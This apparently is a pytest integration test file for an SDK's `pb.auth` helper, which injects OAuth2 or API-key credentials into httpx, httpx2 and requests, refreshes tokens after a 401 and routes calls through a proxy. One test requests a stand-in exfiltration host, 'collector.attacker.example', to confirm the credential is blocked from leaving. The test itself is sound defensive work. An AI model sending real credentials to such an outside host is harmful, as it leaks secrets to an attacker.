"""`pb.auth(link)` with httpx and requests as well as httpx2: the credential is injected, an
expired token is refreshed on the 401 and the request retried, and the credential is only sent
to the service's hosts -- against the test provider on 127.0.0.1."""

from __future__ import annotations

import asyncio
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import httpx
import httpx2
import pytest
import requests

import plugboard
from plugboard.client.local import LocalClient
from plugboard.domain.credentials import OAuth2Credential
from plugboard.domain.models import WorkspaceKind
from plugboard.domain.principal import OPERATOR
from plugboard.errors import OutboundBlocked
from plugboard.testing.provider_state import DEMO_API_KEY, DEMO_CLIENT_ID, DEMO_CLIENT_SECRET
from plugboard.testing.server import ProviderServer
from plugboard.usecases import identity
from plugboard.usecases.connections import create_connection
from plugboard.usecases.credentials import store_credential
from plugboard.usecases.runtime import Runtime
from plugboard.usecases.services import create_custom_service
from tests.integration.remote_support import key_connection, token
from tests.stack import Stack

LINK = "crm"


@pytest.fixture
def pb(runtime: Runtime, provider: ProviderServer) -> Iterator[LocalClient]:
    """An OAuth 2 connection to the provider, authorized with tokens the provider issued."""
    p = provider.base_url
    service = textwrap.dedent(f"""
        name: Test Provider
        link_name: tp
        base_url: {p}/api/oauth2
        auth_type: oauth2
        oauth2:
          client_id: {DEMO_CLIENT_ID}
          client_secret: {DEMO_CLIENT_SECRET}
          authorize_url: {p}/oauth2/authorize
          token_url: {p}/oauth2/token
          token_endpoint_auth_method: client_secret_basic
          scopes: [{{name: read, description: Read}}]
    """)
    issued = provider.state.issue_tokens(DEMO_CLIENT_ID, scope="read")
    with runtime.unit() as unit:
        identity.create_workspace(unit, OPERATOR, "default", WorkspaceKind.DEVELOPER)
        create_custom_service(unit, OPERATOR, service, http_hosts=["127.0.0.1"])
        create_connection(unit, OPERATOR, service="tp", link_name=LINK, scopes=["read"])
        store_credential(
            unit,
            OPERATOR,
            connection=LINK,
            credential=OAuth2Credential(issued["access_token"], issued["refresh_token"]),
        )
    # Refreshing reaches the provider's token endpoint on loopback.
    settings = runtime.settings.model_copy(
        update={"outbound_allowlist": "127.0.0.1", "allow_http_hosts": "127.0.0.1"}
    )
    client = LocalClient(replace(runtime, settings=settings))
    try:
        yield client
    finally:
        client.close()


def _expire_on_the_provider(provider: ProviderServer) -> None:
    # Plugboard still thinks the token is good (no expiry stored): only the 401 tells it.
    provider.state.expire_access_tokens()


def _refreshes(provider: ProviderServer) -> int:
    return provider.state.token_calls("refresh_token")


def _url(provider: ProviderServer, path: str = "/me") -> str:
    return f"{provider.base_url}/api/oauth2{path}"


# --- httpx ------------------------------------------------------------------------------------


def test_pb_auth_injects_the_credential_into_an_httpx_client(
    pb: LocalClient, provider: ProviderServer
) -> None:
    with httpx.Client(auth=pb.auth(LINK)) as http:
        response = http.post(_url(provider, "/items?limit=2"), json={"name": "x"})
    assert response.status_code == 200, response.text
    assert response.json()["auth"] == "oauth2" and response.json()["json"] == {"name": "x"}


def test_an_httpx_client_gets_the_token_refreshed_on_a_401_and_the_request_retried(
    pb: LocalClient, provider: ProviderServer
) -> None:
    _expire_on_the_provider(provider)
    with httpx.Client(auth=pb.auth(LINK)) as http:
        response = http.post(_url(provider), content=b"payload")
    assert response.status_code == 200, response.text
    assert _refreshes(provider) == 1
    assert [r.status_code for r in response.history] == [401]


def test_an_async_httpx_client_gets_the_token_refreshed_on_a_401(
    pb: LocalClient, provider: ProviderServer
) -> None:
    _expire_on_the_provider(provider)

    async def main() -> httpx.Response:
        async with httpx.AsyncClient(auth=pb.auth(LINK)) as http:
            return await http.get(_url(provider))

    response = asyncio.run(main())
    assert response.status_code == 200, response.text
    assert _refreshes(provider) == 1


def test_an_httpx_client_never_sends_the_credential_to_another_host(pb: LocalClient) -> None:
    sent: list[httpx.Request] = []
    transport = httpx.MockTransport(lambda request: sent.append(request) or httpx.Response(200))
    with httpx.Client(auth=pb.auth(LINK), transport=transport) as http:
        with pytest.raises(OutboundBlocked, match="not an origin of service"):
            http.get("https://collector.attacker.example/api/oauth2/me")
    assert sent == []


# --- requests ---------------------------------------------------------------------------------


def test_pb_auth_injects_the_credential_into_requests(
    pb: LocalClient, provider: ProviderServer
) -> None:
    response = requests.post(
        _url(provider, "/items?limit=2"), json={"name": "x"}, auth=pb.auth(LINK), timeout=10
    )
    assert response.status_code == 200, response.text
    assert response.json()["auth"] == "oauth2" and response.json()["json"] == {"name": "x"}


def test_requests_gets_the_token_refreshed_on_a_401_and_the_request_retried(
    pb: LocalClient, provider: ProviderServer
) -> None:
    _expire_on_the_provider(provider)
    with requests.Session() as session:
        response = session.post(
            _url(provider, "/form"), data={"a": "1 2"}, auth=pb.auth(LINK), timeout=10
        )
    assert response.status_code == 200, response.text
    assert response.json()["form"] == {"a": "1 2"}
    assert _refreshes(provider) == 1
    assert [r.status_code for r in response.history] == [401]


def test_a_second_401_after_the_refresh_is_returned_to_requests_as_it_is(
    pb: LocalClient, provider: ProviderServer
) -> None:
    provider.state.queue_responses(401, 401)
    response = requests.get(_url(provider), auth=pb.auth(LINK), timeout=10)
    assert response.status_code == 401
    assert _refreshes(provider) == 1


def test_requests_never_sends_the_credential_to_another_host(pb: LocalClient) -> None:
    with pytest.raises(OutboundBlocked, match="not an origin of service"):
        # Refused while the request is prepared: nothing is sent.
        requests.get("http://127.0.0.2:9/api/oauth2/me", auth=pb.auth(LINK), timeout=1)


# --- httpx2 stays as it was ---------------------------------------------------------------------


def test_an_httpx2_client_gets_the_token_refreshed_on_a_401(
    pb: LocalClient, provider: ProviderServer
) -> None:
    _expire_on_the_provider(provider)
    with httpx2.Client(auth=pb.auth(LINK)) as http:
        response = http.get(_url(provider))
    assert response.status_code == 200, response.text
    assert _refreshes(provider) == 1


def test_one_auth_object_serves_all_three_libraries(
    pb: LocalClient, provider: ProviderServer
) -> None:
    auth: Any = pb.auth(LINK)
    assert isinstance(auth, httpx2.Auth) and isinstance(auth, httpx.Auth)
    with httpx2.Client(auth=auth) as a, httpx.Client(auth=auth) as b:
        statuses = [a.get(_url(provider)).status_code, b.get(_url(provider)).status_code]
    statuses.append(requests.get(_url(provider), auth=auth, timeout=10).status_code)
    assert statuses == [200, 200, 200]
    assert "at_" not in repr(auth)


# --- a remote client: the same object, through the server's proxy --------------------------------


def test_a_remote_pb_auth_works_with_httpx_and_requests_through_the_proxy(stack: Stack) -> None:
    key_connection(stack)
    url = f"{stack.provider.base_url}/api/apikey/orders?page=2"
    with plugboard.connect(stack.base_url, token=token(stack, "dev")) as remote:
        with httpx.Client(auth=remote.auth("keys")) as http:
            via_httpx = http.post(url, json={"sku": "A-1"})
        via_requests = requests.post(url, json={"sku": "A-1"}, auth=remote.auth("keys"), timeout=10)
    for answer in (via_httpx, via_requests):
        assert answer.status_code == 200, answer.text
        assert (answer.json()["auth"], answer.json()["json"]) == ("apikey", {"sku": "A-1"})
    assert str(via_requests.request.url).startswith(f"{stack.base_url}/proxy/keys/")
    assert DEMO_API_KEY not in repr(dict(via_requests.request.headers))


def test_the_sdk_imports_neither_httpx_nor_requests() -> None:
    code = "import sys, plugboard; print(sorted({'httpx', 'requests'} & set(sys.modules)))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
